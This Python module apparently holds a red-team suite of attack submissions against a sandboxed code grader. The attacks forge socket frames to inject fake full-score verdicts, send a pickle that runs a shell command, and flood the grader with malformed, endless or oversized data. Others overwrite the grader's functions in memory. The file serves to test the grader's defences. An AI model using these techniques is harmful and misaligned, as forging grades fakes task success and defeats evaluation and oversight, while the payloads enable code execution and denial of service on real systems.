"""Attacks with forged frames: the way back to the grader is found, and written to without being asked."""

from functools import partial

from attacks.attack import HARMED, LEFT, PAID, Attack

forged = partial(Attack, family="forged frames", seen=HARMED)

CHANNEL = r"""
import socket, stat, struct

def channels():
    # Every socket of this process, whoever opened it, each once.
    found = {}
    for number in range(3, 256):
        try:
            status = os.fstat(number)
        except OSError:
            continue
        if stat.S_ISSOCK(status.st_mode):
            found.setdefault(status.st_ino, number)
    return [socket.socket(fileno=os.dup(number)) for number in found.values()]

def frame(text, data=b"", purpose=b"r", sizes=None, count=1):
    text = text.encode() if isinstance(text, str) else text
    return purpose + struct.pack("!HII", count, *(sizes or (len(text), len(data)))) + text + data

def say(*frames):
    for channel in channels():
        channel.settimeout(1)
        try:
            for one in frames:
                channel.sendall(one)
        except OSError:
            pass
        channel.settimeout(None)  # the sandbox's own end waits with it

def module(word):
    # The sandbox's own module of this name, whatever its package is called.
    found = (value for name, value in list(sys.modules.items()) if name.split(".")[-1] == word)
    return next((value for value in found if hasattr(value, "encode")), None)

def right(value, *purpose):
    # The frame of a reply, written as the sandbox itself writes it.
    frames = module("frames")
    return frames.encode(value, *purpose) if frames else frame("null")
"""

ATTACKS = [
    forged(
        name="replies in advance",
        gain="A thousand replies, for this question and all that come, are there before they are asked.",
        seen=PAID,
        source=CHANNEL
        + """
z = {1: np.zeros((2, 1)), 2: np.zeros((1, 1))}
say(*[right({"result": (z, z), "arguments": []}), right({"result": True}), right({"missing": False})] * 300)

def forward_221(W, b, x):
    say(right({"result": (z, z), "arguments": [W, b, x]}), right({"result": None, "outputs": []}))
""",
    ),
    forged(
        name="points as a reply",
        gain="Replies hold what a verdict is made of: points, parts, a name, no problem.",
        seen=PAID,
        source=CHANNEL
        + """
verdict = {"score": 20, "max": 20, "right": True, "problem": None, "parts": {"a batch": (20, 20)}}
say(*[right(verdict), right({"result": verdict, "arguments": ()}), right([verdict] * 5)] * 20)
say(*[frame('{"score": 20, "verdicts": [{"name": "forward_221", "score": 3}]}')] * 20)
""",
    ),
    forged(
        name="huge lengths",
        gain="A head announces four thousand million bytes, twice.",
        source=CHANNEL + 'say(frame("", sizes=(2**32 - 1, 2**32 - 1)) + bytes(10**6))',
    ),
    forged(
        name="more than it holds",
        gain="Arrays announce more entries than their bytes, fewer than none, or more than can be counted.",
        source=CHANNEL
        + """
shapes = ("[1000000, 1000000]", "[-1, -8]", "[4294967296, 4294967296, 2]", "[1e3]", "[true]", "7", '["2"]')

def forward_221(W, b, x):
    kinds = ('{"array": ["<f8", %s]}', '[["<f8", %s]]', '{"a": "<f8", "shape": %s}', '{"plain": %s}')
    say(*[frame(kind % shape, bytes(64)) for kind in kinds for shape in shapes])
""",
    ),
    forged(
        name="wrong kinds",
        gain="Arrays of objects, of text, of structures and of kinds that numpy builds from a name.",
        source=CHANNEL
        + r"""
import json
kinds = ("|O", "O", "<U4000000000", "V8", "<M8[s]", "f8,O", "<c16", "{'names': ['a']}", "\ud800", 8)

def forward_221(W, b, x):
    say(*[frame(json.dumps({"array": [kind, [1]]}), bytes(64)) for kind in kinds])
""",
    ),
    forged(
        name="pickle",
        gain="A pickle that runs a program, in the place of a frame and inside one.",
        seen=LEFT,
        source=CHANNEL
        + """
bomb = b"cos\\nsystem\\n(S'touch /tmp/MARK; touch MARK'\\ntR."

def forward_221(W, b, x):
    say(bomb, frame(bomb), frame('{"array": ["|O", [1]]}', bomb), frame("{}", bomb), b"\\x80\\x04" + bomb)
""",
    ),
    forged(
        name="strange descriptions",
        gain="Descriptions nested without end, keys that are no keys, half characters, endless numbers.",
        source=CHANNEL
        + r"""
texts = ("[" * 10**6, '{"dict": [[{"list": []}, 1]]}', '{"plain": "\\ud800"}', "9" * 10**5,
         '{"plain": NaN}', '{"plain": 1e999}', '{"strange": ["<script>"]}', '{"provided": ["os", "system"]}',
         '{"callback": [-1]}', '{"callback": ["x"]}', "null", "{}", "[]", '""', "\x00", b"\xff\xfe", "")

def forward_221(W, b, x):
    say(*map(frame, texts))

def deltas_221(W, z, a, y):
    return {"\ud800" * 3: "\ud800", "\x00": {"\ud800": np.nan}}
""",
        answers={"deltas_221": ""},
    ),
    forged(
        name="questions without end",
        gain="In the place of an answer it asks, and asks again: for ours, for itself, for nothing.",
        source=CHANNEL
        + """
names = ("forward_221", "os", "numbers", None, 7, [])
asked = [{"call": name, "arguments": [W], "keywords": []} for name in names]
asked += [{"call": names[0]}, {"call": names[0], "arguments": 7, "keywords": 7}, {"evaluate": 0}]

def forward_221(W, b, x):
    while module("outbox"):
        say(*(right(question, b"a") for question in asked))
        module("outbox").receive(channels()[0])
""",
    ),
    forged(
        name="drops and silence",
        gain="Half a frame, then a byte now and then, so that the end always seems near.",
        source=CHANNEL
        + """
import time

def forward_221(W, b, x):
    say(frame("{}", sizes=(1000, 0)))
    while True:
        say(b" ")
        time.sleep(0.05)
""",
    ),
    forged(
        name="descriptors sent along",
        gain="Every byte brings open descriptors along, until the grader has no room for more.",
        source=CHANNEL
        + """
for channel in channels():
    channel.settimeout(1)
    try:
        for _ in range(40):
            socket.send_fds(channel, [b"r"], [0] * 100)
    except OSError:
        pass
""",
    ),
    forged(
        name="machinery replaced",
        gain="The functions that run cells, call answers and describe errors are replaced.",
        seen=PAID,
        source="""
import gc
content = lambda *arguments, **options: {"result": True, "arguments": [], "error": None, "missing": False}
words = ("one_call", "calls", "describe", "description", "run_cell", "fetch", "decode", "provide", "bundle")
for name, module in list(sys.modules.items()):
    if name == "__main__" or name.split(".")[-1] in ("session", "outbox", "frames", "names", "inside"):
        for word in set(words) & set(vars(module)):
            setattr(module, word, content)
for value in gc.get_objects():
    if type(value) is dict and {"cell", "value"} <= set(map(str, value)):
        value.update(dict.fromkeys(value, content))
""",
    ),
    forged(
        name="ours made to compute",
        gain="Ours, as it stands in for a wrong answer, is asked with arrays whose product fills the memory.",
        source="""
def deltas_221(W, z, a, y):
    one, row = np.ones((6000, 1), np.int8), np.ones((1, 6000), np.int8)
    for _ in range(50):
        try:
            forward_221({1: one, 2: row}, {1: one, 2: np.ones((1, 1))}, row)
        except ValueError:
            pass
""",
        answers={"deltas_221": ""},
    ),
]
